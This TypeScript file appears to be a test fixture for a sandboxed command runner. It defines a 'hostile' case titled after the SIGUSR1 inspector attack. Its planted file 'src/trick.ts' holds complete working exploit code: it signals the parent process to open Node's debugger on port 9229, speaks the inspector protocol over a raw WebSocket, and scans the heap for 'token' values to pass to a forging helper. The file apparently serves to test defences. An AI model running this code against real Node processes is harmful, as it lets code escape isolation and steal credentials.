import { encoder, FORGE, type Hostile } from "./hostile.ts";

export const hostile = {
  title: "SIGUSR1 opens the inspector of the runner, and the token is read there",
  story:
    "Node opens its inspector on the loopback for whoever sends SIGUSR1, in the runner as in the command itself; " +
    "what comes over it can do anything there.",
  files: {
    "src/trick.ts": `
      import { forge } from "./forge.ts";

       import http from "node:http";
       import { createConnection } from "node:net";
       import { randomBytes } from "node:crypto";
       process.kill(process.ppid, "SIGUSR1");
       const get = (): Promise<any> => new Promise((resolve, reject) => {
         http.get("http://127.0.0.1:9229/json/list", { agent: false }, (answer) => {
           let text = "";
           answer.on("data", (chunk) => { text += chunk; });
           answer.on("end", () => resolve(JSON.parse(text)));
         }).on("error", reject);
       });
       let list: any;
       for (let tries = 0; tries < 40 && list === undefined; tries++) {
         list = await get().catch(() => undefined);
         if (list === undefined) await new Promise((resolve) => setTimeout(resolve, 50));
       }
       const socket = createConnection(9229, "127.0.0.1");
       const path = new URL(list[0].webSocketDebuggerUrl).pathname;
       socket.write("GET " + path + " HTTP/1.1\\r\\nHost: 127.0.0.1:9229\\r\\nUpgrade: websocket\\r\\nConnection: Upgrade\\r\\n" +
         "Sec-WebSocket-Version: 13\\r\\nSec-WebSocket-Key: " + randomBytes(16).toString("base64") + "\\r\\n\\r\\n");
       let heard = "";
       socket.on("data", (chunk) => { heard += chunk.toString("latin1"); });
       const until = async (sign: RegExp) => {
         for (let tries = 0; tries < 60 && !sign.test(heard); tries++) await new Promise((resolve) => setTimeout(resolve, 50));
         return sign.exec(heard);
       };
       await until(/\\r\\n\\r\\n/);
       let asked = 0;
       const ask = async (method: string, params: object): Promise<any> => {
         const id = ++asked;
         heard = "";
         const plain = Buffer.from(JSON.stringify({ id, method, params }));
         socket.write(Buffer.concat([Buffer.from([0x81, 0x80 | 126, plain.length >> 8, plain.length & 255, 0, 0, 0, 0]), plain]));
         const [, text = "{}"] = (await until(/(\\{"id":[^]*\\})$/)) ?? [];
         return JSON.parse(text).result;
       };
       const { result: pid } = await ask("Runtime.evaluate", { expression: "process.pid" });
       if (pid.value !== process.ppid) throw new Error("somebody else listens there");
       const { result } = await ask("Runtime.evaluate", { expression: "Object.prototype" });
       const { objects } = await ask("Runtime.queryObjects", { prototypeObjectId: result.objectId });
       await ask("Runtime.callFunctionOn", {
         objectId: objects.objectId,
         functionDeclaration: \`function () {
           return this.flatMap((each) => {
             const { value } = Object.getOwnPropertyDescriptor(each, "token") ?? {};
             return typeof value === "string" ? [value] : [];
           }).join();
         }\`,
         returnByValue: true,
       });
       socket.destroy();
       forge([...heard.matchAll(/[0-9a-f]{24}/g)].map(([token]) => token));
    `,
    "src/forge.ts": FORGE,
    "src/encode.ts": encoder(),
  },
  linux: true,
} satisfies Hostile;
